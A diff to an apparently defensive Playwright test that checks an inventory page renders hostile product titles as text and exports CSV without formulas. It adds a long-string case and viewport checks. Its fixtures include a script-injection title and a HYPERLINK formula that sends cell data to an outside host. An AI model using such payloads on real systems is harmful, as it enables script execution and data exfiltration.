@@ -1,7 +1,7 @@
 import { readFile } from "node:fs/promises";
 import type { Page } from "@playwright/test";
 import { doc, FieldPath, setDoc, updateDoc } from "firebase/firestore/lite";
-import { expectNoSidewaysScroll } from "../accessibility.ts";
+import { expectNoSidewaysScroll, LAPTOP, PHONE } from "../accessibility.ts";
 import { expect, test } from "../fixtures.ts";
 import { onShow, pathOf, sampleProduct } from "../stock.ts";
 import { firestore } from "../../../src/data/firebase.ts";
@@ -30,6 +30,7 @@ const HOSTILE = [
   { id: "hostile-mark-up", title: MARK_UP },
   { id: "hostile-json", title: `</script><script>${RUN}</script>` },
   { id: "hostile-direction", title: RTL },
+  { id: "hostile-unbroken", title: "W".repeat(200), sku: `HOSTILE-${"W".repeat(52)}` },
   { id: "hostile-formula", title: '=HYPERLINK("https://example.com/?take="&A1,"Ring")' },
   {
     id: "hostile-picture",
@@ -150,7 +151,10 @@ test("the inventory shows hostile products as text, and its CSV contains no form
   for (const { title } of HOSTILE) expect(shown).toContain(title);
   expect(Math.max(...shown.map(({ length }) => length))).toBeLessThanOrEqual(200);
   await expectNothingRun(page);
-  await expectNoSidewaysScroll(page);
+  for (const viewport of [PHONE, LAPTOP]) {
+    await page.setViewportSize(viewport);
+    await expectNoSidewaysScroll(page);
+  }
 
   const downloading = page.waitForEvent("download");
   await page.getByRole("button", { name: "Export CSV" }).click();
